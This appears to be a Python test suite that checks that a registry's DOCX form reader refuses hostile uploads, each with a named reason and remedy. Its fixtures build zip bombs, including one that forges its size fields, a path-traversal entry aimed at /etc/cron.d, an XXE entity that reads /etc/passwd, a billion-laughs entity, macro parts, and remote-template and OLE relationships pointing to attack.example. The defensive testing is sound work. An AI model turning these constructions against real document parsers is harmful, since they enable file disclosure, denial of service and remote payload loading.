"""A DOCX that somebody sends in place of a filled form: each attack is named and refused."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

import pytest

from registry.forms.docx_in import read_docx
from registry.forms.package import DOCUMENT, LARGEST_PART, MOST_PARTS, read_package
from registry.forms.work import READ
from runtime.bounded_work import BoundedWork, WorkLimits, WorkRefused
from runtime.bounded_worker import Unacceptable
from tests.support.hostile_files import picture, zip_of
from tests.support.texts import ENGLISH, VIETNAMESE
from tests.unit.registry.test_pc01 import market, written

FORM = written(market())
RELATIONS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

Parts = dict[str, bytes]


def parts() -> Parts:
    with zipfile.ZipFile(io.BytesIO(FORM)) as archive:
        return {each: archive.read(each) for each in archive.namelist()}


def packed(content: Mapping[str, bytes]) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in content.items():
            archive.writestr(name, part)
    return output.getvalue()


def changed(name: str, old: bytes, new: bytes) -> bytes:
    content = parts()
    assert old in content[name]
    return packed(content | {name: content[name].replace(old, new, 1)})


def related(kind: str, target: str, mode: str = "External") -> bytes:
    one = f'<Relationship Id="x" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return changed(RELATIONS, b"</Relationships>", f"{one}</Relationships>".encode())


def lying_bomb() -> bytes:
    """A document that says it has 10 bytes, and unpacks to 100 MB."""
    content = parts()
    content[DOCUMENT] = b"<x>" + b" " * 100_000_000 + b"</x>"
    whole = bytearray(packed(content))
    size = struct.pack("<I", len(content[DOCUMENT]))
    place = whole.find(size)
    while place >= 0:
        whole[place : place + 4] = struct.pack("<I", 10)
        place = whole.find(size, place)
    return bytes(whole)


def doctype(text: str) -> bytes:
    return changed(DOCUMENT, b"<w:document", text.encode() + b"<w:document")


ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
MACROS = b"application/vnd.ms-word.document.macroEnabled.main+xml"
PLAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

ATTACKS: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (lambda: b"", "no DOCX"),
    "a picture": (lambda: picture("PNG"), "no DOCX"),
    "an old document": (lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 600, "old .doc"),
    "an archive of something else": (zip_of, "no document of Word"),
    "a cut archive": (lambda: FORM[:3_000], "damaged"),
    "a part that is a bomb": (
        lambda: packed(parts() | {DOCUMENT: b"<x>" + b" " * LARGEST_PART + b"</x>"}),
        "bomb",
    ),
    "a bomb that lies about its size": (lying_bomb, ";"),
    "many parts that are a bomb": (
        lambda: packed(parts() | {f"word/media/{n}.bin": b"\0" * 9_000_000 for n in range(9)}),
        "bomb",
    ),
    "too many parts": (
        lambda: packed(parts() | {f"word/{n}.bin": b"" for n in range(MOST_PARTS)}),
        "parts, more than",
    ),
    "a part outside": (
        lambda: packed(parts() | {"../../etc/cron.d/x": b"x"}),
        "outside of the document",
    ),
    "an external entity": (lambda: doctype(ENTITY), "entities or a document type"),
    "entities that multiply": (lambda: doctype(LAUGHS), "entities or a document type"),
    "a document type alone": (lambda: doctype("<!DOCTYPE x>"), "entities or a document type"),
    "entities in a part beside": (
        lambda: packed(parts() | {"customXml/item9.xml": (ENTITY + "<x>&a;</x>").encode()}),
        "customXml/item9.xml",
    ),
    "a macro": (lambda: packed(parts() | {"word/vbaProject.bin": b"x"}), "macro"),
    "a document with macros": (lambda: changed("[Content_Types].xml", PLAIN, MACROS), "macros"),
    "an ActiveX control": (lambda: packed(parts() | {"word/activeX/activeX1.xml": b"<x/>"}), "macro"),
    "an embedded file": (lambda: packed(parts() | {"word/embeddings/x.xlsx": b"x"}), "another file"),
    "a template from elsewhere": (
        lambda: related("attachedTemplate", "http://attack.example/x.dotm"),
        "refers to another file (attachedtemplate",
    ),
    "a picture from elsewhere": (lambda: related("image", "file://attack/x.png"), "refers to another"),
    "an object from elsewhere": (lambda: related("oleObject", "http://attack.example/x"), "another"),
    "a frame from elsewhere": (lambda: related("frame", "http://attack.example/x"), "another file"),
    "content of another kind": (lambda: related("aFChunk", "x.html", "Internal"), "another file"),
    "XML that is broken": (lambda: changed(DOCUMENT, b"</w:body>", b""), "well-formed"),
    "a table in a cell": (
        lambda: changed(DOCUMENT, b"<w:tc>", b"<w:tc><w:tbl><w:tr><w:tc/></w:tr></w:tbl>"),
        "table in a cell",
    ),
    "a million rows": (
        lambda: changed(DOCUMENT, b"</w:tbl>", b"<w:tr><w:tc/></w:tr>" * 5_000 + b"</w:tbl>"),
        "rows; send one form",
    ),
}


@pytest.mark.parametrize(("make", "reason"), ATTACKS.values(), ids=ATTACKS)
def test_an_attack_is_named_with_its_remedy(make: Callable[[], bytes], reason: str) -> None:
    with pytest.raises(Unacceptable) as refused:
        read_docx(make(), [VIETNAMESE, ENGLISH])
    assert reason in str(refused.value)
    assert ";" in str(refused.value), "a remedy"


def test_a_link_that_nothing_follows_is_no_attack() -> None:
    read_package(related("hyperlink", "mailto:cho@example.org"))


async def test_a_form_is_read_in_a_process_that_a_bomb_ends_alone() -> None:
    work = BoundedWork(WorkLimits())
    answer, made = await work.run_on_bytes(READ, b"", FORM)
    assert answer == b"[]"
    assert "Chợ An Bình" in made.decode()
    with pytest.raises(WorkRefused, match="bomb"):
        await work.run_on_bytes(READ, b"", ATTACKS["a part that is a bomb"][0]())


def test_the_bomb_is_small() -> None:
    assert len(zlib.compress(ATTACKS["a part that is a bomb"][0]())) < 200_000
